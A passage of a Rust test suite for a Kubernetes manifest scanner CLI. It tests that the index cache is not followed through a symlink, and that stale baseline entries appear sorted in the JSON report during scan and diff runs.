        let s = repo.diff(&["--base", "HEAD", "--stats"]);
        assert_eq!(s.stdout, reference);
        assert_eq!(
            stats(&s)["index_cache_hits"],
            0,
            "not read through a symlink"
        );
        assert_eq!(stats(&s)["index_cache_write_failures"], 1);
        let names: Vec<_> = std::fs::read_dir(&outside).unwrap().collect();
        assert_eq!(names.len(), 1, "nothing written through it");
    }
}

fn reference_code(repo: &Repo) -> i32 {
    repo.diff(&["--base", "HEAD", "--no-cache"]).code
}

#[test]
fn stale_baseline_entries_are_listed_in_the_json_report_sorted() {
    let repo = Repo::new();
    let c = repo.dir.join("c.yaml");
    let cs = c.to_str().unwrap();
    std::fs::write(&c, cronjob("backup", "0 3 * * *", "alpine:3.20", PRIV)).unwrap();
    let bl = repo.tmp.path().join("bl.json");
    let bls = bl.to_str().unwrap();
    assert_eq!(cg(&["baseline", "write", "--output", bls, cs]).code, 0);
    // No --baseline: no key. A baseline with nothing stale: an empty array.
    let v = json(&cg(&["scan", "--format", "json", cs]));
    assert!(v.get("stale_baseline").is_none(), "{v}");
    let v = json(&cg(&["scan", "--baseline", bls, "--format", "json", cs]));
    assert_eq!(v["stale_baseline"], serde_json::json!([]));
    // Reverse the entries (a hand-edited file), then fix everything: all are stale, and
    // the report lists them sorted whatever the file's order.
    let mut file: Value = serde_json::from_str(&std::fs::read_to_string(&bl).unwrap()).unwrap();
    let n = file["entries"].as_array().unwrap().len();
    assert!(n >= 2, "{file}");
    file["entries"].as_array_mut().unwrap().reverse();
    std::fs::write(&bl, file.to_string()).unwrap();
    std::fs::write(&c, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n").unwrap();
    let ran = cg(&["scan", "--baseline", bls, "--format", "json", cs]);
    let stale = json(&ran)["stale_baseline"].as_array().unwrap().clone();
    assert_eq!(stale.len(), n, "{stale:?}");
    let key = |e: &Value| {
        ["rule", "object", "locator", "fingerprint"].map(|k| e[k].as_str().unwrap().to_string())
    };
    let keys: Vec<_> = stale.iter().map(key).collect();
    let mut sorted = keys.clone();
    sorted.sort();
    assert_eq!(keys, sorted);
    assert!(stale.iter().any(|e| e["rule"] == "privileged-container"
        && e["object"] == "batch/CronJob/ops/backup"
        && e["fingerprint"].as_str().unwrap().len() == 16));
    // The same run still notes them on stderr; twice gives the same bytes.
    assert!(
        ran.stderr.contains("stale baseline entry"),
        "{}",
        ran.stderr
    );
    assert_eq!(
        cg(&["scan", "--baseline", bls, "--format", "json", cs]).stdout,
        ran.stdout
    );
    // In diff, only the entries of changed files can be stale.
    repo.write("README", "x\n");
    repo.commit("base");
    let v = json(&repo.diff(&["--base", "HEAD", "--baseline", bls]));
    assert_eq!(
        v["stale_baseline"],
        serde_json::json!([]),
        "nothing changed"
    );
}
